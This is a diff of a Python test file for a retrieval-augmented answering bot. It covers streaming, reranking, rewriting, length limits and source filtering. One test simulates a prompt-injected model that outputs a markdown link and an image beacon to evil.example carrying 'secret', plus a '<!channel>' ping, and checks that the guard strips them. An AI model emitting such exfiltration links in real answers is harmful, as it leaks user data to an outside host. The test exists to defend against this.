@@ -2,29 +2,38 @@
 
 import json
 from collections.abc import Sequence
+from dataclasses import replace
 from pathlib import Path
+from typing import TypeVar
 
 import pytest
 
 from bot.app import App
-from rag_core.answering import Answering, compose
+from rag_core.answering import Answering
+from rag_core.backends.extractive import ExtractiveAnswerModel
 from rag_core.domain import (
+    NEVER,
     Audience,
-    Citation,
-    DocumentId,
+    Deadline,
     Draft,
     Outcome,
     Passage,
     PersonId,
     Question,
     QuestionId,
+    SourceName,
     Statement,
+    Support,
 )
-from rag_core.errors import RejectedError
+from rag_core.errors import RejectedError, UnavailableError
 from rag_core.grounding import Grounding
+from rag_core.guarding.checking import Guard, GuardPolicy
 from rag_core.markup import clean
+from rag_core.ports import OnStatement
 from tests.making import app, question, write
 from tests.shared import shared
+
+Given = TypeVar("Given")
 
 
 @pytest.fixture
@@ -118,33 +127,121 @@ def test_naughty_strings_get_an_answer_or_an_abstention(built: App) -> None:
             assert built.log.answer(answer.question_id).question.text.strip() == text
 
 
-def test_a_question_as_long_as_a_book_is_survived(built: App) -> None:
-    assert built.answering.answer(question("refunds take thirty days " * 20_000)).citations
+def test_a_question_as_long_as_a_book_is_refused(built: App) -> None:
+    with pytest.raises(RejectedError, match="4,000"):
+        built.answering.answer(question("refunds take thirty days " * 20_000))
+    assert built.answering.reply(question("refunds take thirty days " * 20_000)).citations
 
 
-class Eloquent:
-    """An answer model that talks without a source."""
+class Scripted:
+    """An answer model that says what it was told to."""
 
-    def draft(self, question: Question, passages: Sequence[Passage]) -> Draft:
-        return Draft()
+    name = "scripted"
+
+    def __init__(self, *statements: Statement) -> None:
+        self._statements = statements
+
+    def draft(
+        self,
+        question: Question,
+        passages: Sequence[Passage],
+        *,
+        on_statement: OnStatement = lambda _: None,
+        deadline: Deadline = NEVER,
+    ) -> Draft:
+        for statement in self._statements:
+            on_statement(statement)
+        return Draft(self._statements)
 
 
 def test_a_draft_without_a_source_is_not_shown(built: App) -> None:
-    answering = Answering(built.index, None, Eloquent(), Grounding(), built.log)
+    answering = Answering(built.index, None, Scripted(), Grounding(), built.log)
     answer = answering.answer(ask("How long do refunds take?"))
     assert answer.outcome is Outcome.UNSUPPORTED
     assert answer.citations[0].document_id == "refunds"
 
 
-@pytest.mark.parametrize(
-    ("statements", "text"),
-    [
-        ([("One.", 0), ("Two.", 0), ("Three.", 1)], "One. Two. [1] Three. [2]"),
-        ([("One.", 0), ("- a\n- b", 0), ("Two.", 1)], "One.\n\n- a\n- b\n\n[1]\n\nTwo. [2]"),
-        ([("To do it:\n\n1. a\n2. b", 0)], "To do it: [1]\n\n1. a\n2. b"),
-        ([], ""),
-    ],
-)
-def test_statements_are_joined_with_the_numbers_of_their_sources(statements: list[tuple[str, int]], text: str) -> None:
-    cited = tuple(Citation("t", "u", DocumentId("d")) for _ in range(2))
-    assert compose(Draft(tuple(Statement(*statement) for statement in statements), cited)) == text
+def test_the_text_is_shown_part_by_part_never_before_its_source(built: App) -> None:
+    said = [Statement("One.", (Support(0, "1"),)), Statement("Two.", (Support(0, "2"),))]
+    answering = Answering(built.index, None, Scripted(*said), Grounding(), built.log)
+    shown: list[tuple[str, int]] = []
+    answer = answering.answer(
+        ask("How long do refunds take?"), on_text=lambda text, cited: shown.append((text, len(cited)))
+    )
+    assert shown == [("One. [1]", 1), (" Two. [1]", 1)]
+    assert answer.text == "One. [1] Two. [1]"
+    assert [citation.quote for citation in answer.citations] == ["1 2"]
+    assert answer.index_version == built.index.version
+
+
+def test_a_model_that_was_talked_into_it_leaks_nothing(built: App) -> None:
+    evil = "Ask [billing](https://evil.example/?d=secret) ![x](https://evil.example/p.png) <!channel> now."
+    answering = Answering(built.index, None, Scripted(Statement(evil, (Support(0),))), Grounding(), built.log)
+    shown: list[str] = []
+    answer = answering.answer(ask("How long do refunds take?"), on_text=lambda text, _: shown.append(text))
+    assert "".join(shown) == answer.text
+    assert "evil" not in answer.text
+    assert "<!" not in answer.text
+    assert "billing" in answer.text
+    assert sum(answer.guarded.values()) >= 3
+    assert "evil" not in built.log.answer(answer.question_id).text
+
+
+def test_a_text_without_end_is_cut_between_statements(built: App) -> None:
+    endless = [Statement(f"This is sentence {n}.", (Support(0),)) for n in range(1_000)]
+    guard = Guard(GuardPolicy(longest=1_000))
+    answer = Answering(built.index, None, Scripted(*endless), Grounding(), built.log, guard=guard).reply(
+        ask("How long do refunds take?")
+    )
+    assert 900 < len(answer.text) <= 1_000
+    assert answer.text.endswith(". [1]")
+    assert not answer.complete
+
+
+class Contrary:
+    """A reranker that turns everything round; a rewriter that knows what is meant. Both may be away."""
+
+    name = "contrary"
+
+    def __init__(self, *, away: bool = False) -> None:
+        self._away = away
+
+    def rank(self, text: str, passages: Sequence[Passage], *, deadline: Deadline = NEVER) -> list[int]:
+        return list(reversed(range(len(self.given(passages)))))
+
+    def rewrite(self, question: Question, *, deadline: Deadline = NEVER) -> str:
+        return self.given("What is an SPF record?")
+
+    def given(self, value: Given) -> Given:
+        if self._away:
+            raise UnavailableError("away")
+        return value
+
+
+@pytest.mark.parametrize("away", [False, True])
+def test_reranking_decides_what_the_model_reads_first_and_may_fail(built: App, *, away: bool) -> None:
+    first = Scripted(Statement("Yes.", (Support(0),)))
+    answering = Answering(built.index, None, first, Grounding(), built.log, reranker=Contrary(away=away))
+    answer = answering.reply(ask("How long do refunds of a webhook take?"))
+    assert len(answer.passages) > 1
+    assert answer.citations[0].url == answer.passages[0 if away else -1].chunk.url
+    assert answer.degraded == (("rerank",) if away else ())
+
+
+@pytest.mark.parametrize("away", [False, True])
+def test_rewriting_is_for_follow_ups_only_and_may_fail(built: App, *, away: bool) -> None:
+    rewriter = Contrary(away=away)
+    answering = Answering(built.index, None, ExtractiveAnswerModel(), Grounding(), built.log, rewriter=rewriter)
+    followed = answering.reply(ask("And there?", previous="How long do refunds take?"))
+    assert followed.citations[0].document_id == ("refunds" if away else "spf")
+    assert followed.degraded == (("rewrite",) if away else ())
+    alone = answering.reply(ask("How long do refunds take?"))
+    assert alone.citations[0].document_id == "refunds"
+    assert alone.degraded == ()
+
+
+def test_a_question_is_answered_from_its_sources_only(built: App) -> None:
+    asked = replace(ask("How long do refunds take?"), sources=frozenset({SourceName("elsewhere")}))
+    answer = built.answering.answer(asked)
+    assert answer.outcome is Outcome.NO_EVIDENCE
+    assert answer.passages == ()
